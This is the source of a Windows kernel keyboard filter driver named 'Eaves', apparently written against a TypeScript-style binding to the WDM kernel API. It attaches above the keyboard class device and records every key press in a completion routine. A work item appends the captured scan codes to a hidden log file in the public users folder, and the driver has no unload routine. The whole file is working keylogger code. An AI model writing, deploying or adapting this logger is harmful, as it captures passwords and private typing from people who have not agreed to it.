/*
 * Eaves: a filter above the keyboard that writes down what is typed.
 *
 * Each read that csrss.exe sends to the keyboard passes here, and comes back with keys. They come at
 * DISPATCH_LEVEL, where no file can be written; so the completion routine takes the codes down, and a
 * work item writes them to a file later.
 */
import {
  BOOLEAN,
  DO_BUFFERED_IO,
  DO_DEVICE_INITIALIZING,
  DelayedWorkQueue,
  ExAllocatePool2,
  ExFreePoolWithTag,
  FALSE,
  FILE_APPEND_DATA,
  FILE_ATTRIBUTE_HIDDEN,
  FILE_DEVICE_KEYBOARD,
  FILE_OPEN_IF,
  FILE_SHARE_READ,
  FILE_SYNCHRONOUS_IO_NONALERT,
  IO_STATUS_BLOCK,
  IRP_MJ_MAXIMUM_FUNCTION,
  IRP_MJ_READ,
  InitializeObjectAttributes,
  IoAllocateWorkItem,
  IoAttachDevice,
  IoCallDriver,
  IoCopyCurrentIrpStackLocationToNext,
  IoCreateDevice,
  IoDeleteDevice,
  IoFreeWorkItem,
  IoMarkIrpPending,
  IoQueueWorkItem,
  IoSetCompletionRoutine,
  IoSkipCurrentIrpStackLocation,
  KEYBOARD_INPUT_DATA,
  KEY_MAKE,
  KSPIN_LOCK,
  KeAcquireSpinLock,
  KeInitializeSpinLock,
  KeReleaseSpinLock,
  NT_SUCCESS,
  OBJECT_ATTRIBUTES,
  OBJ_CASE_INSENSITIVE,
  OBJ_KERNEL_HANDLE,
  PIO_WORKITEM,
  POOL_FLAG_NON_PAGED,
  RTL_CONSTANT_STRING,
  RtlCopyMemory,
  STATUS_INSUFFICIENT_RESOURCES,
  STATUS_SUCCESS,
  SYNCHRONIZE,
  TRUE,
  UCHAR,
  ULONG,
  ZwClose,
  ZwCreateFile,
  ZwWriteFile,
  array,
  cast,
  local,
  out,
  sizeof,
  struct,
} from 'wdm'
import type {
  DEVICE_OBJECT,
  DRIVER_OBJECT,
  HANDLE,
  IRP,
  NTSTATUS,
  PVOID,
  UNICODE_STRING,
  KIRQL,
} from 'wdm'

const TAG = 'evaE'
const LogName = RTL_CONSTANT_STRING('\\??\\C:\\Users\\Public\\eaves.log')
const CODES_MAX = 256

const LOG = struct('LOG', {
  Lock: KSPIN_LOCK,
  Work: PIO_WORKITEM,
  /** TRUE from the queueing of the work item until it took over the codes. */
  IsQueued: BOOLEAN,
  Count: ULONG,
  Codes: array(UCHAR, CODES_MAX),
})

let lower: DEVICE_OBJECT = null
let own: DEVICE_OBJECT = null
let log: PVOID = null

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  for (let i = 0; i <= IRP_MJ_MAXIMUM_FUNCTION; i++) DriverObject.MajorFunction[i] = EavesPass
  DriverObject.MajorFunction[IRP_MJ_READ] = EavesRead
  // No DriverUnload: a read is always under way, and its completion routine lies in this image.
  const device = out<DEVICE_OBJECT>()
  let status = IoCreateDevice(DriverObject, 0, null, FILE_DEVICE_KEYBOARD, 0, FALSE, device)
  if (!NT_SUCCESS(status)) return status
  own = device.value
  own.Flags |= DO_BUFFERED_IO
  status = MakeLog()
  if (!NT_SUCCESS(status)) {
    IoDeleteDevice(own)
    return status
  }
  const below = out<DEVICE_OBJECT>()
  status = IoAttachDevice(own, RTL_CONSTANT_STRING('\\Device\\KeyboardClass0'), below)
  if (!NT_SUCCESS(status)) {
    FreeLog()
    IoDeleteDevice(own)
    return status
  }
  lower = below.value
  own.Flags &= ~DO_DEVICE_INITIALIZING
  return STATUS_SUCCESS
}

function EavesPass(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  IoSkipCurrentIrpStackLocation(Irp)
  return IoCallDriver(lower, Irp)
}

/** A read on its way down: the keys come on its way back. */
function EavesRead(DeviceObject: DEVICE_OBJECT, Irp: IRP): NTSTATUS {
  IoCopyCurrentIrpStackLocationToNext(Irp)
  IoSetCompletionRoutine(Irp, EavesReadDone, null, TRUE, TRUE, TRUE)
  return IoCallDriver(lower, Irp)
}

function EavesReadDone(DeviceObject: DEVICE_OBJECT, Irp: IRP, Context: PVOID): NTSTATUS {
  if (Irp.PendingReturned) IoMarkIrpPending(Irp)
  if (!NT_SUCCESS(Irp.IoStatus.Status)) return STATUS_SUCCESS
  const keys = Number(Irp.IoStatus.Information) / sizeof(KEYBOARD_INPUT_DATA)
  const all = cast(array(KEYBOARD_INPUT_DATA, 1), Irp.AssociatedIrp.SystemBuffer)
  const own = cast(LOG, log)
  const irql = out<KIRQL>()
  KeAcquireSpinLock(own.Lock, irql)
  for (let i = 0; i < keys; i++)
    if (all[i].Flags === KEY_MAKE && own.Count < CODES_MAX) own.Codes[own.Count++] = all[i].MakeCode
  const isFirst = own.Count > 0 && !own.IsQueued
  if (isFirst) own.IsQueued = TRUE
  KeReleaseSpinLock(own.Lock, irql.value)
  if (isFirst) IoQueueWorkItem(own.Work, EavesWrite, DelayedWorkQueue, null)
  return STATUS_SUCCESS
}

function MakeLog(): NTSTATUS {
  log = ExAllocatePool2(POOL_FLAG_NON_PAGED, sizeof(LOG), TAG)
  if (log === null) return STATUS_INSUFFICIENT_RESOURCES
  const made = cast(LOG, log)
  KeInitializeSpinLock(made.Lock)
  made.Work = IoAllocateWorkItem(own)
  if (made.Work !== null) return STATUS_SUCCESS
  ExFreePoolWithTag(log, TAG)
  return STATUS_INSUFFICIENT_RESOURCES
}

function FreeLog(): void {
  IoFreeWorkItem(cast(LOG, log).Work)
  ExFreePoolWithTag(log, TAG)
}

/** At PASSIVE_LEVEL: append the codes to the file. */
function EavesWrite(DeviceObject: DEVICE_OBJECT, Context: PVOID): void {
  const own = cast(LOG, log)
  const codes = local(array(UCHAR, CODES_MAX))
  const irql = out<KIRQL>()
  KeAcquireSpinLock(own.Lock, irql)
  const count = own.Count
  RtlCopyMemory(codes, own.Codes, count)
  own.Count = 0
  own.IsQueued = FALSE
  KeReleaseSpinLock(own.Lock, irql.value)

  const attributes = local(OBJECT_ATTRIBUTES)
  InitializeObjectAttributes(
    attributes,
    LogName,
    OBJ_KERNEL_HANDLE | OBJ_CASE_INSENSITIVE,
    null,
    null,
  )
  const file = out<HANDLE>()
  const iosb = local(IO_STATUS_BLOCK)
  const status = ZwCreateFile(
    file,
    FILE_APPEND_DATA | SYNCHRONIZE,
    attributes,
    iosb,
    null,
    FILE_ATTRIBUTE_HIDDEN,
    FILE_SHARE_READ,
    FILE_OPEN_IF,
    FILE_SYNCHRONOUS_IO_NONALERT,
    null,
    0,
  )
  if (!NT_SUCCESS(status)) return
  ZwWriteFile(file.value, null, null, null, iosb, codes, count, null, null)
  ZwClose(file.value)
}
